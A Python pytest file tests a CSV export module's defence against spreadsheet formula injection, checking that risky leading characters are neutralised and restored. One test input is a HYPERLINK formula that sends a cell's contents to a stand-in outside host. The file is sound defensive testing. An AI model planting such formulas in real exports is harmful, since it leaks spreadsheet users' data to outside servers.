from __future__ import annotations

import csv
import io

import pytest

from apps.core import csv_export


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://x.example/?"&A2,"Report")', '\'=HYPERLINK("https://x.example/?"&A2,"Report")'),
        ("+91 98765 43210", "'+91 98765 43210"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("'=x", "''=x"),  # so that reading back can tell the two apart
        ("'plain", "'plain"),
        ("O'Brien", "O'Brien"),
        ("Sam = Student", "Sam = Student"),
        ("", ""),
    ],
)  # fmt: skip
def test_neutralise_and_unescape_are_inverse(value, written):
    assert csv_export.neutralise(value) == written
    assert csv_export.unescape(written) == value


def test_non_text_cells_are_written_as_they_are():
    out = io.StringIO()
    csv_export.writer(out).writerow([-3, 2.5, None, True, "=1+1"])
    assert out.getvalue() == "-3,2.5,,True,'=1+1\r\n"
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["-3", "2.5", "", "True", "'=1+1"]]
